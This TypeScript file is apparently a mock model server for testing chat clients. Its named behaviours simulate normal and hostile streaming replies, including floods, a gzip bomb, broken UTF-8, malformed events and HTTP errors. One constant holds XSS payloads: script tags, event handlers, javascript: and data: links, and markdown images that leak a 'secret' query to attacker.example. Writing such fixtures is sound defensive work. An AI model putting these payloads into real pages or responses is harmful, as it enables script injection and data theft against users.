import type { ServerResponse } from "node:http";
import { gzipSync } from "node:zlib";
import { chunkOf, type Pacer } from "./model-pace.ts";
import type { Wire, WireError } from "./model-wire.ts";

/** One request to the model server, as a behaviour sees it. */
export type Call = {
  model: string;
  /** What stands behind the name of the behaviour: `kind-200-5` gives `[200, 5]`. */
  numbers: readonly number[];
  /** The text of the last user turn. */
  question: string;
  /** How many requests for this model came before this one. */
  earlier: number;
  /** What a reply of this kind looks like: OpenAI's or Anthropic's. */
  wire: Wire;
  response: ServerResponse;
  pacer: Pacer;
};

type Behaviour = (call: Call) => void;

const WORDS =
  "the quick answer is that every reply comes word by word so a reader can begin before the writer ends and stop when it is enough".split(
    " ",
  );
const MARKDOWN = `## Rivers

A *short* list with **bold** words and \`code\`:

- the Elbe
- the Rhine

| River | Length |
| --- | ---: |
| Elbe | 1,094 km |
| Rhine | 1,233 km |

\`\`\`ts
const length = rivers.reduce((sum, river) => sum + river.length, 0);
\`\`\`

Inline math $a^2 + b^2 = c^2$ and a block:

$$\\sum_{i=1}^{n} i = \\frac{n(n+1)}{2}$$

See [the source](https://example.org/rivers).
`;
const CITING = "It says so [1], and more [9]. Both [1, 7]; `code[9]` stays, as does [9](https://example.org).";
const INJECTION = `Before <script>window.__owned = true</script> after.

<img src="https://attacker.example/pixel.png" onerror="window.__owned = true">
![remote](https://attacker.example/leak.png?q=secret)
![reference][leak] [click](javascript:window.__owned=true) [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
<iframe srcdoc="<script>parent.__owned = true</script>"></iframe><svg onload="window.__owned = true"></svg>
<a href="https://attacker.example/" style="position:fixed;inset:0">x</a>

[leak]: https://attacker.example/reference.png
`;

const frames = new WeakMap<Wire, Map<string, Buffer[]>>();

/** What a kind reply of `count` tokens says, as it is shown: without the space behind its last word. */
export function kindText(count: number): string {
  return Array.from({ length: count }, (_, at) => WORDS[at % WORDS.length]).join(" ");
}

/** The events of a kind reply, encoded once per wire and model id. */
function kindFrames({ model, wire }: Call): Buffer[] {
  const ofWire = frames.get(wire) ?? new Map<string, Buffer[]>();
  frames.set(wire, ofWire);
  const known = ofWire.get(model);
  if (known !== undefined) return known;
  const encoded = WORDS.map((word) => chunkOf(wire.text(model, `${word} `)));
  ofWire.set(model, encoded);
  return encoded;
}

function open({ response }: Call): void {
  response.writeHead(200, { "content-type": "text/event-stream; charset=utf-8", "cache-control": "no-cache" });
}

function begin(call: Call): void {
  open(call);
  call.response.write(call.wire.start(call.model));
}

function say(call: Call, text: string): void {
  call.response.write(call.wire.text(call.model, text));
}

function finish({ model, wire, response }: Call, output = 5): void {
  response.end(wire.end(model, { input: 7, output }));
}

/** Start, some honest words, and then whatever the hostile server does next. */
function promising(next: Behaviour): Behaviour {
  return (call) => {
    begin(call);
    say(call, "so far ");
    say(call, "so good");
    next(call);
  };
}

function paced(text: (call: Call, index: number) => Buffer): Behaviour {
  return (call) => {
    const [count = 40, interval = 5] = call.numbers;
    begin(call);
    call.pacer.run(
      call.response,
      interval,
      (index) => (index < count ? text(call, index) : null),
      () => finish(call, count),
    );
  };
}

/** Writes pieces for as long as the other side takes them. */
function flood({ response }: Call, piece: Buffer): void {
  const pour = () => {
    while (!response.destroyed && response.write(piece));
  };
  response.on("drain", pour);
  pour();
}

function whole(text: (call: Call) => string): Behaviour {
  return (call) => {
    begin(call);
    const pieces = text(call).match(/\s*\S+\s*/g) ?? [];
    for (const piece of pieces) say(call, piece);
    finish(call, pieces.length);
  };
}

function refuse(status: number, kind: WireError, message: string, headers: Record<string, string> = {}): Behaviour {
  return ({ response, wire }) => {
    response.writeHead(status, { "content-type": "application/json", ...headers });
    response.end(wire.error(kind, message));
  };
}

function onceThen(first: Behaviour, later: Behaviour): Behaviour {
  return (call) => (call.earlier === 0 ? first(call) : later(call));
}

const kind = paced((call, index) => {
  const encoded = kindFrames(call);
  return encoded[index % encoded.length] as Buffer;
});
const busy = refuse(429, "rate-limited", "Rate limit reached, please try again.", { "retry-after": "2" });
const html = "<!doctype html><html><body><h1>502 Bad Gateway</h1><script>alert(1)</script></body></html>";

/** Every behaviour by the name that a model id begins with. */
export const behaviours: Record<string, Behaviour> = {
  kind,
  /** Each token is the time it was written, in milliseconds since 1970 with fractions, and a space. */
  stamped: paced(({ model, wire }) =>
    chunkOf(wire.text(model, `${(performance.timeOrigin + performance.now()).toFixed(3)} `)),
  ),
  echo: whole(({ question }) => question),
  /** Cites a passage and some that nobody gave it; every character comes by itself. */
  citing: (call) => {
    begin(call);
    for (const character of CITING) say(call, character);
    finish(call);
  },
  markdown: whole(() => MARKDOWN),
  "script-injection": whole(() => INJECTION),

  "broken-utf8": promising((call) => {
    const event = call.wire.text(call.model, "<HERE>");
    const at = event.indexOf("<HERE>");
    call.response.write(
      Buffer.concat([event.subarray(0, at), Buffer.from([0xff, 0xc3, 0x28, 0xe2, 0x82]), event.subarray(at + 6)]),
    );
    call.response.write(call.wire.text(call.model, "<HERE>").toString().replace("<HERE>", "\\ud83d"));
    call.response.write(call.wire.text(call.model, "<HERE>").toString().replace("<HERE>", "\\ude00 \\udfff\\u0000"));
    finish(call);
  }),
  "huge-line": promising((call) => {
    call.response.write('data: {"choices":[{"delta":{"content":"');
    flood(call, Buffer.alloc(64 * 1024, "a"));
  }),
  "huge-event": promising((call) => flood(call, Buffer.from("data: aaaaaaaaaaaaaaaa\n".repeat(2048)))),
  "huge-error": (call) => {
    call.response.writeHead(500, { "content-type": "application/json" });
    flood(call, Buffer.alloc(64 * 1024, "a"));
  },
  "huge-headers": ({ response }) => {
    response.writeHead(200, { "content-type": "text/event-stream", "x-huge": "a".repeat(256 * 1024) });
    response.end();
  },
  "gzip-bomb": ({ response }) => {
    response.writeHead(200, { "content-type": "text/event-stream", "content-encoding": "gzip" });
    response.end(gzipSync(Buffer.alloc(1024 * 1024)));
  },
  "wrong-types": promising((call) => {
    const event = call.wire.text(call.model, "<HERE>").toString();
    call.response.write(event.replace('"<HERE>"', '{"nested":[1,2,3]}'));
    finish(call);
  }),
  "wrong-shape": promising((call) => {
    call.response.write("data: [1,2,3]\n\n");
    finish(call);
  }),
  "never-ending": (call) => {
    begin(call);
    flood(call, call.wire.text(call.model, "more and ".repeat(100)));
  },
  "never-ending-nothing": (call) => {
    begin(call);
    flood(call, Buffer.from(": still here\n\n".repeat(1024)));
  },
  "html-error": ({ response }) => {
    response.writeHead(200, { "content-type": "text/html" });
    response.end(html);
  },
  "html-502": ({ response }) => {
    response.writeHead(502, { "content-type": "text/html" });
    response.end(html);
  },
  "slow-drip": promising((call) => {
    const drip = setInterval(() => call.response.write(":"), 5);
    call.response.on("close", () => clearInterval(drip));
  }),
  silent: promising(() => {}),
  "no-answer": () => {},
  "mid-close": promising((call) => setImmediate(() => call.response.socket?.resetAndDestroy())),
  "early-end": promising((call) => call.response.end()),
  /** Ends its words and says so, but neither sends the end mark nor closes. */
  lingering: promising((call) => {
    const [end] = call.wire.end(call.model, { input: 7, output: 5 }).toString().split("data: [DONE]");
    call.response.write(end);
  }),
  empty: (call) => {
    open(call);
    call.response.end();
  },
  "no-text": (call) => {
    begin(call);
    finish(call, 0);
  },
  "not-json": promising((call) => {
    call.response.write("data: {not json}\n\n");
    finish(call);
  }),
  "duplicate-done": (call) => {
    begin(call);
    say(call, "once");
    call.response.write(call.wire.end(call.model, { input: 7, output: 1 }));
    say(call, " and again");
    finish(call);
  },
  "error-event": promising((call) => {
    call.response.write(`event: error\ndata: ${call.wire.error("rate-limited", "Overloaded")}\n\n`);
    call.response.end();
  }),
  "content-filter": promising((call) => {
    const end = call.wire.end(call.model, { input: 7, output: 5 }).toString();
    call.response.end(
      end.replace('"finish_reason":"stop"', '"finish_reason":"content_filter"').replace('"end_turn"', '"refusal"'),
    );
  }),
  "cut-short": promising((call) => {
    const end = call.wire.end(call.model, { input: 7, output: 5 }).toString();
    call.response.end(
      end.replace('"finish_reason":"stop"', '"finish_reason":"length"').replace('"end_turn"', '"max_tokens"'),
    );
  }),
  reasoning: (call) => {
    begin(call);
    const thought = call.wire.text(call.model, "let me think").toString();
    call.response.write(thought.replace('"content"', '"reasoning_content"'));
    say(call, "done");
    finish(call, 2);
  },

  redirect: ({ response }) => {
    response.writeHead(307, { location: "/elsewhere" });
    response.end();
  },
  "status-400": refuse(400, "broken", "Something about this request is wrong."),
  "status-401": refuse(401, "wrong-key", "Incorrect API key provided."),
  "status-403": refuse(403, "wrong-key", "This key may not use this model."),
  "status-404": refuse(404, "not-found", "The model does not exist or you do not have access to it."),
  "status-429": onceThen(busy, kind),
  "status-429-forever": busy,
  "status-429-later": refuse(429, "rate-limited", "Come back tomorrow.", { "retry-after": "86400" }),
  "status-429-date": onceThen(
    refuse(429, "rate-limited", "Slow down.", { "retry-after": "Thu, 01 Jan 2026 00:00:03 GMT" }),
    kind,
  ),
  "status-500": refuse(500, "broken", "The server had an error while processing the request."),
  "status-503": onceThen(refuse(503, "broken", "Loading the model."), kind),
  quota: refuse(429, "quota", "You exceeded your current quota, please check your plan and billing details."),
  "no-credit": refuse(400, "too-long", "Your credit balance is too low to access the API."),
  "too-long": refuse(400, "too-long", "prompt is too long: this model's maximum context length is 8192 tokens."),
  refused: refuse(400, "broken", "Your request was rejected by our content_filter policy."),
};
